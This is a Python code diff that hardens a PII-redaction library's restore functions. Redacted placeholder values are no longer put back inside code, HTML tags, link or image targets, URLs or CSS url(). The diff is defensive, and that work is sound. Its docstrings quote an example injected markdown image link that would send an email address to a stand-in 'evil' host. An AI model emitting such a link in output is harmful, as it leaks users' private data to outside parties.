@@ -10,12 +10,13 @@ that same request.
 
 from __future__ import annotations
 
+import bisect
 import hashlib
 import ipaddress
 import re
 import secrets
 import unicodedata
-from collections.abc import Iterable, Iterator
+from collections.abc import Callable, Iterable, Iterator
 from dataclasses import dataclass
 from functools import lru_cache
 from typing import Any, ClassVar
@@ -687,49 +688,143 @@ def redact_pii(
 
 
 _PLACEHOLDER = re.compile(r"<(?:" + "|".join(PII_KINDS) + r")_\d{1,6}>")
-# URL-ish tokens hold no whitespace, so restore_stream can decide per whitespace token
-_URLISH = re.compile(r"(?i)(?:[a-z][a-z0-9+.-]{1,15}:)?//\S+|\]\(\S+?\)|\b(?:src|href)=\S+")
+_ANY_PLACEHOLDER = re.compile(r"<(?:[A-Z]+(?:_[A-Z]+)*_\d{1,6}|SECRET:[a-z_]+)>")
+# places in rendered markdown/HTML that are not running text: a value put back there would
+# be fetched, linked or executed rather than shown
+_FENCE = re.compile(r"(?m)^[ \t]{0,3}(`{3,}|~{3,})")
+_CODE_SPAN = re.compile(r"`+")
+_URL_TOKEN = re.compile(r"(?i)(?<![\w.+-])(?:[a-z][a-z0-9+.-]{1,31}:|//|www\.)\S+")
+_REF_DEF = re.compile(r"(?m)^[ \t]{0,3}\[[^\]\n]{1,999}\]:[^\n]*(?:\n[ \t]+[^\n]*)?")
+_CSS_URL_OPEN = re.compile(r"(?i)url\(")
+_TAG_OPEN = re.compile(r"<[A-Za-z!?/]")
 
 
-def restore(text: str, ctx: ScanContext) -> str:
-    """Put back the originals of placeholders made reversibly in this request.
+def _close_quoted(text: str, pos: int, close: str) -> int:
+    """The index after the ``close`` character that ends a construct opened before ``pos``,
+    skipping quoted strings; the end of the text when it never closes (fail closed)."""
+    n = len(text)
+    quote = ""
+    depth = 0
+    while pos < n:
+        ch = text[pos]
+        if quote:
+            if ch == quote:
+                quote = ""
+        elif ch in "\"'" and close == ">":
+            quote = ch
+        elif close == ")" and ch == "(":
+            depth += 1
+        elif ch == close:
+            if depth == 0:
+                return pos + 1
+            depth -= 1
+        pos += 1
+    return n
 
-    Placeholders inside a URL or link target stay as they are: restoring them there would
-    turn an injected ``![](https://evil/?q=<EMAIL_1>)`` into exfiltration.
-    """
+
+def _protected(text: str) -> list[tuple[int, int]]:
+    """Spans of ``text`` that are code, HTML tags, link destinations, reference definitions,
+    URLs or CSS ``url()``: never places to put an original value back."""
+    spans: list[tuple[int, int]] = []
+    fences = list(_FENCE.finditer(text))
+    i = 0
+    while i < len(fences):
+        opener = fences[i]
+        j = i + 1
+        while j < len(fences) and not fences[j].group(1).startswith(opener.group(1)[0] * 3):
+            j += 1
+        end = fences[j].end() if j < len(fences) else len(text)
+        spans.append((opener.start(), end))
+        i = j + 1
+    if "`" in text:
+        ticks = list(_CODE_SPAN.finditer(text))
+        k = 0
+        while k < len(ticks):
+            close = next(
+                (t for t in ticks[k + 1 :] if len(t.group()) == len(ticks[k].group())), None
+            )
+            if close is None:
+                k += 1
+                continue
+            spans.append((ticks[k].start(), close.end()))
+            k = ticks.index(close) + 1
+    for m in _TAG_OPEN.finditer(text):
+        if _ANY_PLACEHOLDER.match(text, m.start()):
+            continue
+        spans.append((m.start(), _close_quoted(text, m.end(), ">")))
+    pos = text.find("](")
+    while pos != -1:
+        spans.append((pos, _close_quoted(text, pos + 2, ")")))
+        pos = text.find("](", pos + 2)
+    spans += [m.span() for m in _REF_DEF.finditer(text)]
+    spans += [m.span() for m in _URL_TOKEN.finditer(text)]
+    spans += [(m.start(), _close_quoted(text, m.end(), ")")) for m in _CSS_URL_OPEN.finditer(text)]
+    return spans
+
+
+def _restore_in(text: str, ctx: ScanContext, skip: int = 0) -> str:
     vault = ctx.state.get(_VAULT_KEY)
     if not isinstance(vault, _Vault) or "<" not in text:
-        return text
-    blocked = [(m.start(), m.end()) for m in _URLISH.finditer(text)]
+        return text[skip:]
+    blocked = sorted(_protected(text))
+    starts = [s for s, _ in blocked]
+    reach: list[int] = []
+    for _, e in blocked:
+        reach.append(max(e, reach[-1]) if reach else e)
 
     def _swap(m: re.Match[str]) -> str:
-        if any(s <= m.start() < e for s, e in blocked):
-            return m.group()
+        i = bisect.bisect_right(starts, m.start()) - 1
+        if i >= 0 and reach[i] > m.start():
+            return m.group()  # inside code, a tag, a link target or a URL: left as is
         original = vault.original(m.group())
         return m.group() if original is None else original
 
-    return _PLACEHOLDER.sub(_swap, text)
+    return _sub_from(text, skip, _swap)
+
+
+def _sub_from(text: str, skip: int, swap: Callable[[re.Match[str]], str]) -> str:
+    out: list[str] = []
+    pos = skip
+    for m in _PLACEHOLDER.finditer(text, skip):
+        out.append(text[pos : m.start()])
+        out.append(swap(m))
+        pos = m.end()
+    out.append(text[pos:])
+    return "".join(out)
+
+
+def restore(text: str, ctx: ScanContext) -> str:
+    """Put back the originals of placeholders made reversibly in this request, only where
+    the text is running text: never inside code, HTML tags (attributes included), markdown
+    link or image destinations, reference definitions, URLs or CSS ``url()`` (restoring
+    there would turn ``![](https://evil/?q=<EMAIL_1>)`` into exfiltration)."""
+    return _restore_in(text, ctx)
 
 
 _MAX_HELD = 8192  # a token longer than this without whitespace is passed on unrestored
+_CONTEXT = 8192  # raw text kept from earlier chunks: a tag or fence opened there still counts
 
 
 def restore_stream(chunks: Iterable[str], ctx: ScanContext) -> Iterator[str]:
-    """:func:`restore` for streamed output: a placeholder or URL split across chunks is
-    held back until its whitespace-delimited token is complete, then restored whole."""
+    """:func:`restore` for streamed output: a placeholder or URL split across chunks is held
+    back until its whitespace-delimited token is complete; a tag, code fence or link target
+    opened in an earlier chunk still protects what follows it."""
     held = ""
+    context = ""
     for chunk in chunks:
         held += chunk
         cut = max(held.rfind(" "), held.rfind("\n"), held.rfind("\t"))
         if cut == -1:
             if len(held) > _MAX_HELD:
                 yield held  # placeholders in it stay placeholders: never wrongly restored
+                context = (context + held)[-_CONTEXT:]
                 held = ""
             continue
         ready, held = held[: cut + 1], held[cut + 1 :]
-        yield restore(ready, ctx)
+        yield _restore_in(context + ready, ctx, len(context))
+        context = (context + ready)[-_CONTEXT:]
     if held:
-        yield restore(held, ctx)
+        yield _restore_in(context + held, ctx, len(context))
 
 
 def _mask(kind: str, value: str) -> str:
